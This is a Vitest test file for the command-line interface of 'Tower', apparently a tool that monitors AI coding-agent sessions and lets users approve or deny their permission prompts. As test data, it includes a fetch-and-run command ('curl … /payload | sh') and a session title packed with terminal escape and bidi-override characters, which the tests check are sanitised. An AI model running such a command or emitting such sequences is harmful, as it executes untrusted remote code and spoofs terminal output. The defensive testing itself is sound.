import { spawn } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { TowerError } from '../contract/api';
import type { PromptView } from '../contract/dto';
import { FakeBackend, fakeSession, fakeSnapshot } from '../transport/fake-backend';
import { startApiServer } from '../transport/ws-server-transport';
import type { ApiServer } from '../transport/ws-server-transport';
import { main } from './cli';
import { writeRuntimeFile } from './runtime-file';

const NOW = 1_000_000_000;
const prompt: PromptView = {
  kind: 'permission',
  type: 'bash',
  tool: 'Bash',
  subject: 'npm test',
  question: 'Do you want to proceed?',
  options: [],
  fingerprint: 'fp-123',
  autoAnswerable: true,
};

let home: string;
let backend: FakeBackend;
let server: ApiServer;

beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'tower-cli-'));
  backend = new FakeBackend();
  backend.snapshot = fakeSnapshot([
    fakeSession({
      id: 'sess-alpha',
      number: 1,
      title: 'fix tests',
      state: 'permission',
      prompt,
      stateSince: NOW - 125_000,
    }),
    fakeSession({
      id: 'sess-beta',
      number: 2,
      title: 'docs',
      state: 'working',
      evidence: ['spinner'],
      agent: null,
    }),
    fakeSession({
      id: 'sess-evil',
      number: 3,
      title: 'evil\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202etitle',
      state: 'idle',
    }),
  ]);
  server = await startApiServer({ backend });
  await writeRuntimeFile(
    { url: server.url, port: server.port, token: server.token, pid: process.pid },
    { TOWER_HOME: home },
  );
});
afterEach(async () => {
  await server.close();
  await rm(home, { recursive: true, force: true });
});

async function tower(...argv: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await main(argv, {
    stdout: (t) => (out += t),
    stderr: (t) => (err += t),
    env: { TOWER_HOME: home },
    cwd: '/work/here',
    columns: 120,
    now: () => NOW,
  });
  return { code, out, err };
}

describe('tower status', () => {
  it('prints a table of sessions with state, duration and the prompt', async () => {
    const { code, out } = await tower('status');
    expect(code).toBe(0);
    const lines = out.split('\n');
    expect(lines[0]).toMatch(/^#\s+PROVIDER\s+AGENT\s+STATE\s+FOR\s+TITLE\s+PROMPT \/ EVIDENCE$/);
    expect(lines[1]).toMatch(/^1\s+tmux\s+claude 2\.1\.0\s+permission\s+2m\s+fix tests\s+Bash: npm test$/);
    expect(lines[2]).toMatch(/^2\s+tmux\s+-\s+working\s+.*docs\s+spinner$/);
    for (const line of lines.slice(0, 4)) expect(Array.from(line).length).toBeLessThanOrEqual(120);
    expect(out).toContain('Waiting on you:\n  #1 Bash: npm test');
  });

  it('fits narrow terminals but repeats a cut-off prompt in full', async () => {
    const long = 'npm test && curl https://example.com/payload | sh';
    backend.snapshot = fakeSnapshot([
      fakeSession({ id: 'a', number: 1, prompt: { ...prompt, subject: long } }),
    ]);
    let out = '';
    await main(['status'], {
      stdout: (t) => (out += t),
      stderr: () => {},
      env: { TOWER_HOME: home },
      cwd: '/',
      columns: 70,
    });
    const [header, row] = out.split('\n');
    expect(Array.from(header ?? '').length).toBeLessThanOrEqual(70);
    expect(Array.from(row ?? '').length).toBeLessThanOrEqual(70);
    expect(row).toContain('…');
    expect(out).toContain(`#1 Bash: ${long}`);
  });

  it('never lets control characters from a session title reach stdout', async () => {
    for (const argv of [['status'], ['status', '--json']]) {
      const { out } = await tower(...argv);
      // eslint-disable-next-line no-control-regex
      expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    }
    expect((await tower('status')).out).toContain('evil');
  });

  it('warns when registry and terminals disagree', async () => {
    backend.snapshot = {
      ...backend.snapshot,
      groundTruth: { ...backend.snapshot.groundTruth, terminalCount: 5, agreed: false },
    };
    expect((await tower('status')).out).toContain('registry says 3, terminals say 5');
  });

  it('prints machine output with --json', async () => {
    const { out } = await tower('status', '--json');
    const parsed = JSON.parse(out) as { sessions: { title: string }[] };
    expect(parsed.sessions).toHaveLength(3);
    expect(parsed.sessions[2]?.title).toBe(backend.snapshot.sessions[2]?.title);
  });
});

describe('commands', () => {
  it('approve resolves the session and answers the showing prompt, bound to its fingerprint', async () => {
    const { code, out } = await tower('approve', '1');
    expect(code).toBe(0);
    expect(out).toContain('Approved on #1 "fix tests": Bash: npm test');
    expect(backend.calls.at(-1)).toEqual({
      method: 'answerPrompt',
      args: { session: 'sess-alpha', choice: 'approve', fingerprint: 'fp-123', channel: 'cli' },
    });
  });

  it.each([
    [
      ['deny', 'sess-al'],
      'answerPrompt',
      { session: 'sess-alpha', choice: 'deny', fingerprint: 'fp-123', channel: 'cli' },
    ],
    [
      ['send', 'docs', 'run', 'the', 'tests'],
      'sendText',
      { session: 'sess-beta', text: 'run the tests', submit: true },
    ],
    [['send', '2', '--no-enter', 'hi'], 'sendText', { session: 'sess-beta', text: 'hi', submit: false }],
    [['close', 'sess-beta'], 'closeAgent', { session: 'sess-beta' }],
    [['focus', '2'], 'focusAgent', { session: 'sess-beta' }],
    [['lockdown', 'on'], 'lockdown', { engaged: true, channel: 'cli' }],
    [['phone', 'unlock'], 'unlockPhone', { channel: 'cli' }],
    [
      ['open', '--title', 'T', '--provider', 'pty', '--', 'claude', '--model', 'x'],
      'openAgent',
      { command: ['claude', '--model', 'x'], title: 'T', cwd: '/work/here', provider: 'pty' },
    ],
  ] as const)('%j calls %s', async (argv, method, args) => {
    const { code, err } = await tower(...argv);
    expect(err).toBe('');
    expect(code).toBe(0);
    expect(backend.calls.at(-1)).toEqual({ method, args });
  });

  it('says whether `phone unlock` lifted a lockout', async () => {
    backend.phoneLockedUntil = 1_800_000_000_000;
    expect((await tower('phone', 'unlock')).out).toContain('Phone lockout lifted');
    expect((await tower('phone', 'unlock')).out).toContain('was not locked out');
    const bad = await tower('phone', 'unlock', 'now');
    expect(bad.code).toBe(2);
  });

  it('lists what exists for an unknown session (exit 4)', async () => {
    const { code, err } = await tower('approve', 'nope');
    expect(code).toBe(4);
    expect(err).toContain('No session matches "nope"');
    expect(err).toContain('#1 "fix tests"');
    expect(err).toContain('id sess-beta');
    expect(backend.calls.map((c) => c.method)).toEqual(['getSnapshot']);
  });

  it('refuses an ambiguous prefix (exit 4)', async () => {
    const { code, err } = await tower('close', 'sess-');
    expect(code).toBe(4);
    expect(err).toContain('matches several sessions');
  });

  it('says when no prompt is showing (exit 5) without answering', async () => {
    const { code, err } = await tower('approve', '2');
    expect(code).toBe(5);
    expect(err).toContain('No prompt is showing on #2');
    expect(backend.calls.map((c) => c.method)).toEqual(['getSnapshot']);
  });

  it.each([
    ['prompt-changed', 6, 'prompt changed'],
    ['lockdown', 7, 'LOCKDOWN'],
    ['unknown-session', 4, 'Unknown session'],
  ] as const)('maps %s from the server to exit %i', async (code, exit, text) => {
    backend.snapshot = { ...backend.snapshot };
    const original = backend.answerPrompt.bind(backend);
    backend.answerPrompt = (args) => {
      backend.nextError = new TowerError(code, 'from server');
      return original(args);
    };
    const result = await tower('approve', '1');
    expect(result.code).toBe(exit);
    expect(result.err).toContain(text);
  });

  it('prints usage for invalid arguments (exit 2)', async () => {
    for (const argv of [
      ['frobnicate'],
      ['lockdown', 'maybe'],
      ['phone', 'unlock', '--force'],
      ['open', 'claude'],
      ['send', '1'],
      ['status', '--bogus'],
    ]) {
      const { code, err } = await tower(...argv);
      expect(code).toBe(2);
      expect(err).toContain('Usage: tower');
    }
  });

  it('prints help', async () => {
    const { code, out } = await tower('--help');
    expect(code).toBe(0);
    expect(out).toContain('approve <session>');
  });
});

describe('not running', () => {
  it('says how to start Tower (exit 3) when there is no runtime file', async () => {
    await rm(join(home, 'run'), { recursive: true });
    const { code, err } = await tower('status');
    expect(code).toBe(3);
    expect(err).toContain('Tower is not running');
    expect(err).toContain('npm start');
  });

  it('exits 3 from the real program when the server is gone', async () => {
    await server.close();
    const child = spawn(
      process.execPath,
      ['node_modules/tsx/dist/cli.mjs', 'electron/headless/cli.ts', 'status'],
      {
        env: { ...process.env, TOWER_HOME: home },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    let err = '';
    child.stderr.on('data', (d: Buffer) => (err += d.toString()));
    const code = await new Promise<number | null>((resolve) => child.on('exit', resolve));
    expect(err).toContain('Tower is not running');
    expect(err).toContain('npm start');
    expect(code).toBe(3);
    server = await startApiServer({ backend });
  });
});
